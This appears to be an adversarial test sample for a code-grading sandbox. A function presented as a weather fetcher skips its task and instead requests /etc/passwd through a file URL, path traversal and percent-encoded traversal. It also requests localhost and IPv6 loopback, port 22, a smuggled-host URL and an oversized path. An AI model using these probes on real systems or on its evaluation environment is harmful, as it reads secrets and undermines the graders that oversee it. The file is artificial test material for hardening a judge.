# kind: reading secrets
# tries: to have the judge's world fetch files, and hosts of the real network
# exercise: 03_gather_weather
# outcome: FAIL wrong-result
import asyncio

import httpx

URLS = [
    "file:///etc/passwd",
    "https://weather.test/../../etc/passwd",
    "https://weather.test:443@localhost/",
    "http://127.0.0.1:22/",
    "https://weather.test/weather/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "https://weather.test/weather/" + "x" * 60_000,
    "https://[::1]/",
]


async def fetch_weather(cities, base_url):
    async with httpx.AsyncClient() as client:
        for url in URLS:
            try:
                print((await client.get(url)).text[:200])
            except Exception as error:
                print(type(error).__name__)
    return []
